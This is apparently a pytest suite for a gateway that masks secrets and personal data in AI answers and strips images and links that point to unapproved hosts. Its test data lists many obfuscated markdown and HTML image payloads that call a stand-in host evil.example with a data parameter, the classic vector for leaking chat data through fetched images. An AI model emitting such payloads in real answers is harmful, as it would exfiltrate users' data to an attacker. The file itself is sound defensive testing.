"""What an answer may show: findings by entity, class, confidence and novelty; addresses by kind and host."""

from __future__ import annotations

import itertools

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.domain.answer_links import LinkKind
from gateway.domain.answer_rules import (
    AnswerAction,
    AnswerRule,
    Cut,
    FindingRule,
    Guard,
    Judged,
    LinkRule,
    judge,
)
from gateway.domain.finding import Examined, Failed, FailureCause, Finding, Permille
from gateway.domain.folding import fold
from gateway.domain.labels import DataClass, Entity
from tests.growth import assert_linear

SECRETS = frozenset({DataClass.SECRET})
NOTHING: frozenset[DataClass] = frozenset()
CLASSES = {"SECRET": SECRETS, "PERSON": frozenset({DataClass.PII}), "US_SSN": frozenset({DataClass.PII})}


def finding_rule(**more: object) -> FindingRule:
    """Mask whatever is a secret, unless told otherwise."""
    values: dict[str, object] = {
        "id": "r",
        "entities": frozenset(),
        "classes": SECRETS,
        "min_confidence": Permille(500),
        "new": False,
        "action": AnswerAction.MASK,
    }
    return FindingRule(**{**values, **more})  # type: ignore[arg-type]


def images(*allow: str, action: AnswerAction = AnswerAction.MASK) -> LinkRule:
    """A rule for what clients fetch by themselves."""
    return LinkRule("img", frozenset({LinkKind.IMAGES}), allow, action)


def links(*allow: str) -> LinkRule:
    """A rule for everything that can be clicked."""
    return LinkRule("links", frozenset({LinkKind.LINKS}), allow, AnswerAction.MASK)


def judged(text: str, *rules: AnswerRule, found: tuple[Finding, ...] = (), asked: str = "") -> Judged:
    """One text, judged."""
    guard = Guard(rules, lambda entity: CLASSES.get(entity, NOTHING), fold(asked))
    return judge(text, Examined(found), guard)


def found(text: str, value: str, entity: str, confidence: int = 900) -> Finding:
    """A finding of `value` in `text`."""
    at = text.index(value)
    return Finding(at, at + len(value), Entity(entity), Permille(confidence), "Test")


def shown(text: str, result: Judged) -> str:
    """The text after the cuts."""
    for cut in reversed(result.cuts):
        text = text[: cut.start] + cut.mark + text[cut.end :]
    return text


def test_a_finding_of_a_class_is_cut_out() -> None:
    """By its entity's name, nothing else changes, and the rule is told."""
    text = "the key is sk-1234567890, keep it"
    result = judged(text, finding_rule(), found=(found(text, "sk-1234567890", "SECRET"),))

    assert "the key is [SECRET], keep it" == shown(text, result)
    assert (frozenset({"r"}), False) == (result.rules, result.withheld)


@pytest.mark.parametrize(
    ("rule", "matches"),
    [
        (finding_rule(), False),
        (finding_rule(classes=frozenset({DataClass.PII})), True),
        (finding_rule(classes=NOTHING, entities=frozenset({Entity("US_SSN")})), True),
        (finding_rule(classes=frozenset({DataClass.PII}), min_confidence=Permille(950)), False),
        (finding_rule(classes=frozenset({DataClass.PHI})), False),
    ],
)
def test_a_rule_speaks_of_what_it_names(rule: FindingRule, matches: bool) -> None:
    """Entity or class, sure enough."""
    text = "SSN 536-22-8714"

    assert matches == bool(judged(text, rule, found=(found(text, "536-22-8714", "US_SSN"),)).cuts)


def test_a_person_beside_health_content_is_health_data() -> None:
    """As in requests."""
    text = "Anna Kowalska has asthma"
    both = (found(text, "Anna Kowalska", "PERSON"), found(text, "asthma", "MEDICAL_CONDITION"))

    assert [Cut(0, 13, "[PERSON]")] == list(
        judged(text, finding_rule(classes=frozenset({DataClass.PHI})), found=both).cuts
    )
    assert () == tuple(judged(text, finding_rule(classes=frozenset({DataClass.FINANCIAL})), found=both).cuts)


def test_a_person_beside_a_sum_of_money_matters_is_financial_data() -> None:
    """As in requests."""
    text = "Anna Kowalska owes $900"
    both = (found(text, "Anna Kowalska", "PERSON"), found(text, "$900", "FINANCIAL_AMOUNT"))

    assert [Cut(0, 13, "[PERSON]")] == list(
        judged(text, finding_rule(classes=frozenset({DataClass.FINANCIAL})), found=both).cuts
    )


@pytest.mark.parametrize(
    ("asked", "cut"),
    [
        ("mail Anna  KOWALSKA now", False),
        ("mail ANNA KOWALSKA", False),
        ("mail Jan Nowak", True),
        ("mail Anna Kowalskaja", True),
    ],
)
def test_new_spares_what_the_request_held(asked: str, cut: bool) -> None:
    """In whatever capitals and spaces: a caller keeps seeing their own data."""
    text = "Dear Anna Kowalska,"
    rule = finding_rule(classes=frozenset({DataClass.PII}), new=True)

    assert cut == bool(judged(text, rule, found=(found(text, "Anna Kowalska", "PERSON"),), asked=asked).cuts)


def test_withholding_is_stricter_than_masking() -> None:
    """One rule that withholds is enough, and nothing that masks lifts it."""
    text = "sk-1234567890"
    rules = (finding_rule(), finding_rule(id="w", action=AnswerAction.WITHHOLD))

    assert judged(text, *rules, found=(found(text, text, "SECRET"),)).withheld


def test_a_text_that_could_not_be_examined_is_withheld() -> None:
    """Where a rule needs the detector; a rule about links does not."""
    guard = Guard((finding_rule(),), lambda _: NOTHING, "")
    only_links = Guard((images(),), lambda _: NOTHING, "")

    assert judge("x", Failed(FailureCause.CRASH), guard).withheld
    assert not judge("x", Failed(FailureCause.CRASH), only_links).withheld


IMAGES = [
    "![a](https://evil.example/p.png?d=1)",
    '![a]( <https://evil.example/p.png?d=1> "t")',
    "![a](//evil.example/p?d=1)",
    "![](data:image/png;base64,AAAA)",
    "![a][r]\n\n[r]: https://evil.example/p?d=1",
    '<img alt="x" src="https://evil.example/p?d=1">',
    "<IMG SRC=https://evil.example/p?d=1>",
    '<iframe src="//evil.example/p?d=1"></iframe>',
    "<div style=\"background:url('https://evil.example/p?d=1')\">",
]


@pytest.mark.parametrize("text", IMAGES)
def test_what_a_client_would_fetch_is_neutralised(text: str) -> None:
    """In Markdown, by reference, in HTML and in styles."""
    result = judged(text, images())

    assert {"img"} == result.rules
    assert "evil.example" not in shown(text, result)
    assert "d=1" not in shown(text, result)
    assert "base64" not in shown(text, result)


HIDDEN = [
    "![a[b]c](https://evil.example/p?d=1)",
    "![" + "a" * 500 + "](https://evil.example/p?d=1)",
    "![a [b](https://docs.example.com) c](https://evil.example/p?d=1)",
    "![a `]` b](https://evil.example/p?d=1)",
    "![a `[` b](https://evil.example/p?d=1)",
    "![a `](x)` b](https://evil.example/p?d=1)",
    "![a `][` b](https://evil.example/p?d=1)",
    "![a](" + " " * 40 + "https://evil.example/p?d=1)",
    "![a](https&#58;//evil.example/p?d=1)",
    "![a](https&colon;//evil.example/p?d=1)",
    r"![a](https\://evil.example/p?d=1)",
    r"![a](\\evil.example/p?d=1)",
    r"![a](/\evil.example/p?d=1)",
    r"![a](https:\/\/evil.example\/p?d=1)",
    r"![a](\u0068ttps://evil.example/p?d=1)",
    r"!\u005ba\u005d(https:\/\/evil.example\/p?d=1)",
    r'{"text":"{\"text\":\"![a](https:\\/\\/evil.example\\/p?d=1)\"}"}',
    "> ![a][r]\n>\n> [r]: https://evil.example/p?d=1",
    "- ![a][r]\n\n  - [r]: https://evil.example/p?d=1",
    '<img alt=">" src="https://evil.example/p?d=1">',
    '<img src="https://docs.example.com/y.png" srcset="https://evil.example/p?d=1 2x">',
    '<img srcset="https://evil.example/p?d=1 1x, https://docs.example.com/y.png 2x">',
    '<img src="ht\ntps://evil.example/p?d=1">',
    '<img src="h&#116;tps://evil.example/p?d=1">',
    "<img src = https://evil.example/p?d=1>",
    '<input type=image src="https://evil.example/p?d=1">',
    '<table background="https://evil.example/p?d=1">',
    '<link rel=stylesheet href="https://evil.example/p?d=1">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/p?d=1">',
    '<style>@import "https://evil.example/p?d=1";</style>',
    r'{"html":"<img src=\"https://evil.example/p?d=1\">"}',
]


@pytest.mark.parametrize("text", HIDDEN)
def test_what_a_client_reads_and_a_search_overlooks(text: str) -> None:
    """Brackets in an image's words, escapes, entities, several attributes: whatever a client would resolve."""
    result = judged(text, images("docs.example.com"))

    assert {"img"} == result.rules
    assert "evil.example" not in shown(text, result)


@pytest.mark.parametrize(
    "text",
    [
        "![a](https://docs.example.com/y.png) and [b](https://evil.example/)",
        "![a][r] and [b](https://evil.example/)",
        "[![a](https://docs.example.com/y.png)](https://evil.example/)",
        "![a `b\n\n[c](https://evil.example/)",
        '<img src="y.png"> <a href="https://evil.example/">x</a>',
        'src = "https://evil.example/"',
        "if a < b:  # https://evil.example/",
        "![a](/y.png) ![b](y.png) ![c](#d)",
    ],
)
def test_what_is_no_image_stays(text: str) -> None:
    """Also beside one, in code, and within the application's own pages."""
    assert () == judged(text, images("docs.example.com")).cuts


@pytest.mark.parametrize("text", [r"see\nhttps://evil.example/", "www.evil.example/x", r"https:\/\/evil.example"])
def test_links_without_brackets(text: str) -> None:
    """As clients make them clickable, and as they stand in JSON."""
    assert "evil.example" not in shown(text, judged(text, links()))


def test_an_address_that_clients_read_differently_is_not_allowed() -> None:
    """For some the host ends at a backslash, for others it is a user's name."""
    assert judged(r"![x](https://docs.example.com\@evil.example/)", images("docs.example.com")).cuts


@pytest.mark.parametrize("piece", ["![", "](", "[", "<img src=", "<a ", "\\", "&#58;", "`", "]: ", " src=x"])
def test_searching_is_linear(piece: str) -> None:
    """An answer may be made to hold a hundred thousand openings that nothing closes."""
    assert_linear(lambda length: judged(piece * (length // len(piece)), images(), links()), 50_000)


@pytest.mark.parametrize(
    "text", ["see https://evil.example/?d=1", "[a](https://evil.example/?d=1)", "<https://evil.example/>"]
)
def test_what_is_clicked_is_another_kind(text: str) -> None:
    """A rule for images leaves it; a rule for links does not."""
    assert () == judged(text, images()).cuts
    assert "evil.example" not in shown(text, judged(text, links()))


@pytest.mark.parametrize(
    ("host", "allowed"),
    [
        ("docs.example.com", True),
        ("a.cdn.example.com", True),
        ("cdn.example.com", False),
        ("docs.example.com.evil.example", False),
        ("evil-cdn.example.com", False),
        ("docs.example.com@evil.example", False),
        ("DOCS.example.com", True),
    ],
)
def test_hosts_are_compared_whole(host: str, allowed: bool) -> None:
    """Neither a prefix, nor a suffix, nor a user name makes a host one that is allowed."""
    text = f"![x](https://{host}/y.png)"

    assert allowed == (not judged(text, images("docs.example.com", "*.cdn.example.com")).cuts)


@given(st.text(alphabet="![](<>:/.ahtps \n'\"\\&#;5820`", max_size=200))
def test_cuts_are_sorted_apart_and_inside(text: str) -> None:
    """Whatever a model writes."""
    cuts = judged(text, images(), links()).cuts

    assert all(0 <= cut.start < cut.end <= len(text) for cut in cuts)
    assert all(one.end <= other.start for one, other in itertools.pairwise(cuts))
